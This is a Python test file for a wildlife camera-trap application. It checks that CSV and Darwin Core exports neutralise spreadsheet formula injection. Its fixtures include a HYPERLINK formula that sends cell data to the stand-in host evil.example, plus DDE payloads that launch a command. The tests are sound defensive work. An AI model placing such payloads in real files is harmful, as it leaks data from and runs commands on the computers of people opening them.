"""CSV formula injection (issue 17, finding 11): free text a ranger typed must not run as a formula
when a manager opens an export in a spreadsheet; numbers such as negative coordinates stay numbers."""
from __future__ import annotations

import csv
import io

import pytest

from server.exports.common import spreadsheet_safe

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize("cell, expected", [
    (PAYLOAD, "'" + PAYLOAD),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("-12.5", "-12.5"), ("+7", "+7"), ("-1e-05", "-1e-05"),  # numbers are data
    ("Sus scrofa", "Sus scrofa"), ("", ""), (None, None), (3.5, 3.5),
])
def test_spreadsheet_safe(cell, expected):
    assert spreadsheet_safe(cell) == expected


def test_camtrap_dp_and_darwin_core_exports_neutralise_formulas(app, world, survey, tmp_path):
    from server.exports.camtrap_dp import export_camtrap_dp
    from server.exports.dwca import export_dwca
    from server.models import Deployment, Observation
    from server.storage import get_store

    with world.session() as s:
        obs = s.get(Observation, survey.ids["o1"])
        obs.observation_comments = PAYLOAD
        dep = s.get(Deployment, survey.ids["d1"])
        dep.deployment_comments = "@evil"
        from server.models import Location
        s.get(Location, dep.location_id).name = "=1+1 S01"
        s.commit()
    with world.session() as s:
        export_camtrap_dp(s, tmp_path / "dp", program_id=survey.program_id, store=get_store(app))
        export_dwca(s, tmp_path / "dwca", program_id=survey.program_id)
    with open(tmp_path / "dp" / "observations.csv", newline="", encoding="utf-8") as fh:
        rows = {r["observationID"]: r for r in csv.DictReader(fh)}
    assert rows[survey.ids["o1"]]["observationComments"] == "'" + PAYLOAD
    with open(tmp_path / "dp" / "deployments.csv", newline="", encoding="utf-8") as fh:
        deps = {r["deploymentID"]: r for r in csv.DictReader(fh)}
    assert deps[survey.ids["d1"]]["deploymentComments"] == "'@evil"
    assert float(deps[survey.ids["d1"]]["longitude"]) == pytest.approx(106.31234)
    # Darwin Core: nothing in any text cell starts a formula
    import zipfile

    archive = tmp_path / "dwca"
    if archive.is_dir():
        texts = [p.read_text(encoding="utf-8") for p in archive.glob("*.txt")]
    else:
        with zipfile.ZipFile(archive) as z:
            texts = [z.read(n).decode() for n in z.namelist() if n.endswith(".txt")]
    cells = [c for text in texts for row in csv.reader(io.StringIO(text), delimiter="\t") for c in row]
    assert "'=1+1 S01" in cells  # the station's name as locality, neutralised
    assert not any(c.startswith(("=", "@")) for c in cells)
